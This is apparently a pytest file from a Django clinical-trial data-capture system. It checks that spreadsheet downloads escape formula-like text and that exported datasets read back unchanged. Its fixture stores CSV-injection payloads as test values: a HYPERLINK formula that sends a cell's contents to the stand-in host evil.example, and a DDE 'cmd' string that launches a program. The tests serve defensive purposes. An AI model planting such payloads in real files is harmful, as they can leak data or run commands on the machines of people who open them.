"""Every download a person opens in a spreadsheet holds text, never a live formula (OWASP CSV
injection), whatever was typed into a description, a reason, a name or a hospital number; the
tidy dataset read back returns exactly what was typed."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from ablacem.dataset import read_dataset
from ablacem.edc import services
from ablacem.edc.actors import Actor
from tests.spreadsheet_cells import live_formulas

from .world import DAY0

pytestmark = pytest.mark.db_backend

DESCRIPTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CHANGE_REASON = "@SUM(A1:A2)"
NAME = "-2+3+cmd|' /C calc'!A0"
HOSPITAL_NUMBER = "'HN-1"
NOT_DONE_REASON = "+SUM(1,2)"


@pytest.fixture
def typed(world, users):
    """The world's patient with formula-like text in every free-text field a person fills in."""
    actor = Actor.staff(users["coordinator"])
    patient, lesion = world["patient"], world["lesion"]
    event = {
        "patient": patient,
        "onset_date": DAY0,
        "term": "pain_flare",
        "cirse_grade": 1,
        "serious": False,
        "related_to": "ablation",
        "lesion": lesion,
        "actor": actor,
    }
    created = services.adverse_event_record(**event, description="first words")
    services.adverse_event_record(
        **event, description=DESCRIPTION, adverse_event=created, expected_version=created.version, reason=CHANGE_REASON
    )
    identity = patient.identity
    services.patient_identity_update(
        patient=patient,
        name=NAME,
        hospital_number=HOSPITAL_NUMBER,
        expected_version=identity.version,
        reason="corrected",
        actor=actor,
    )
    services.assessment_mark_not_done(
        patient=patient, timepoint="w1", status="missed", not_done_reason=NOT_DONE_REASON, actor=actor
    )
    return patient


def _files(response) -> dict[str, str]:
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    return {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith(".csv")}


def test_the_identified_dataset_zip_has_no_live_formula_and_reads_back_exactly(client_as, typed, tmp_path):
    response = client_as("data_manager").post(reverse("edc:dataset_zip"), {"identified": "1"})
    files = _files(response)
    assert {"adverse_events.csv", "identifiers.csv"} <= set(files)
    for name, text in files.items():
        assert live_formulas(text) == [], name
    assert "'" + DESCRIPTION.replace('"', '""') in files["adverse_events.csv"]
    for name, text in files.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    back = read_dataset(tmp_path)
    assert DESCRIPTION in set(back.adverse_events["description"])
    assert back.identifiers.loc[0, "name"] == NAME
    assert back.identifiers.loc[0, "hospital_number"] == HOSPITAL_NUMBER


@pytest.mark.parametrize("fmt", ["csv", "redcap"])
def test_the_identified_interop_files_have_no_live_formula(client_as, typed, fmt):
    response = client_as("data_manager").post(reverse("edc:interop_download"), {"fmt": fmt, "identified": "1"})
    assert response.status_code == 200
    files = _files(response)
    assert files
    for name, text in files.items():
        assert live_formulas(text) == [], name
    body = "\n".join(files.values())
    assert "'=HYPERLINK(" in body  # the description is there, as text
    if fmt == "redcap":
        assert "'-2+3+cmd" in body and "''HN-1" in body  # the identifiers instrument


def test_negative_numbers_stay_numbers_in_the_interop_csv(client_as, typed):
    response = client_as("statistician").post(reverse("edc:interop_download"), {"fmt": "csv"})
    files = _files(response)
    assert live_formulas("\n".join(files.values())) == []
    cells = {cell for text in files.values() for row in csv.reader(io.StringIO(text)) for cell in row}
    # de-identified dates are days from the procedure: the baseline visit, 2 days before it, is -2
    assert "-2" in cells and "'-2" not in cells


def test_the_audit_csv_has_no_live_formula(client_as, typed):
    response = client_as("data_manager").get(reverse("edc:audit_csv", args=[typed.pk]))
    text = response.content.decode("utf-8")
    assert live_formulas(text) == []
    for typed_text in (CHANGE_REASON, NAME, NOT_DONE_REASON):
        assert "'" + typed_text.replace('"', '""') in text
    assert "'" + HOSPITAL_NUMBER in text
